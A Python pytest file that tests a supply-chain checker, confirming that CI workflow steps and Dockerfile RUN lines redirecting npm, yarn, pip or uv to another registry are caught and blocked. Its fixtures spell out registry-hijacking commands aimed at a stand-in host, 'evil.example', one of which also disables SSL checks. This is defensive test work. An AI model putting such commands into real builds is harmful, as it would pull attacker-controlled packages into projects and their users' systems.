"""Registry settings made by commands (issue 16, found by the adversarial pass): a CI step or a Dockerfile RUN that
points the installers at another registry with `npm config set`, `pip config set`, a written `~/.npmrc` or
`$GITHUB_ENV` changes what every later install fetches, as a committed `.npmrc` would; each is a `config`
dependency of the workflow or Dockerfile, judged by registry-config."""

from __future__ import annotations

import json

import pytest

from checker.cli import main

EVIL = "https://evil.example"

COMMANDS = {
    "npm config set": (f"npm config set registry {EVIL}/", "npm.registry"),
    "npm set": (f"npm set registry={EVIL}/", "npm.registry"),
    "npm scope": (f"npm config set @acme:registry {EVIL}/", "npm.@acme:registry"),
    "pnpm config set": (f"pnpm config set registry {EVIL}/", "npm.registry"),
    "yarn berry": (f"yarn config set npmRegistryServer {EVIL}", "yarn.npmRegistryServer"),
    "yarn classic": (f"yarn config set registry {EVIL}/", "yarn.registry"),
    "pip config set": (f"pip config set global.index-url {EVIL}/simple", "pip.index-url"),
    "pip3 --user": (f"pip3 config --user set install.extra-index-url {EVIL}/simple", "pip.extra-index-url"),
    "python -m pip": (f"python3 -m pip config set global.index-url {EVIL}/simple", "pip.index-url"),
    "echo > ~/.npmrc": (f'echo "registry={EVIL}/" > ~/.npmrc', "npm.registry"),
    "printf >> .npmrc": (f"printf 'strict-ssl=false\\nregistry={EVIL}/\\n' >> $HOME/.npmrc", "npm.registry"),
    "echo > pip.conf": (f"echo '[global]' > /etc/pip.conf && echo 'index-url = {EVIL}/simple' >> /etc/pip.conf",
                        None),
    "GITHUB_ENV": (f'echo "PIP_INDEX_URL={EVIL}/simple" >> "$GITHUB_ENV"', "pip.index-url"),
    "GITHUB_ENV braces": (f"echo NPM_CONFIG_REGISTRY={EVIL}/ >> ${{GITHUB_ENV}}", "npm.registry"),
}


def workflow(command: str) -> str:
    return ("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
            + "".join(f"          {line}\n" for line in command.split("\n")))


def judged(capsys, repo, files_before: dict, files_after: dict) -> dict:
    base = repo.commit("base", files_before)
    head = repo.commit("head", files_after)
    main(["check", "-C", str(repo.path), "--base", base, "--head", head, "--offline", "--format", "json"])
    return json.loads(capsys.readouterr().out)


@pytest.mark.parametrize("case", COMMANDS)
def test_a_workflow_step_that_configures_a_registry_is_a_setting_change(capsys, repo, case):
    command, name = COMMANDS[case]
    doc = judged(capsys, repo, {".github/workflows/ci.yml": workflow("echo hi")},
                 {".github/workflows/ci.yml": workflow(command)})
    settings = {(c["name"], c["to"]) for c in doc["changes"] if c["ecosystem"] == "config"}
    assert any(EVIL in value for _, value in settings), (case, doc["changes"])
    if name is not None:
        assert name in {setting for setting, _ in settings}
    assert any(f["rule"] == "registry-config" and f["level"] == "block" for f in doc["findings"])


def test_heredocs_written_to_config_files_and_github_env(capsys, repo):
    command = (f"cat > ~/.yarnrc.yml <<EOF\nnpmRegistryServer: {EVIL}\nEOF\n"
               f"tee -a \"$GITHUB_ENV\" <<'EOF'\nUV_INDEX_URL={EVIL}/simple\nEOF")
    doc = judged(capsys, repo, {".github/workflows/ci.yml": workflow("echo hi")},
                 {".github/workflows/ci.yml": workflow(command)})
    assert {c["name"] for c in doc["changes"]} >= {"yarn.npmRegistryServer", "uv.index-url"}


def test_a_dockerfile_run_that_configures_a_registry_is_a_setting_change(capsys, repo):
    digest = "sha256:" + "a" * 64
    doc = judged(capsys, repo, {"Dockerfile": f"FROM node@{digest}\nRUN npm ci\n"},
                 {"Dockerfile": f"FROM node@{digest}\nRUN npm config set registry {EVIL}/ && npm ci\n"})
    assert [(c["manifest"], c["name"], c["to"]) for c in doc["changes"]] == [("Dockerfile", "npm.registry", f"{EVIL}/")]


def test_a_setting_decided_at_run_time_is_no_pass(capsys, repo):
    doc = judged(capsys, repo, {".github/workflows/ci.yml": workflow("echo hi")},
                 {".github/workflows/ci.yml": workflow('npm config set registry "$MIRROR"')})
    [change] = [c for c in doc["changes"] if c["name"] == "npm.registry"]
    assert change["to"] == "<decided at run time>" and change["review"] == "required"
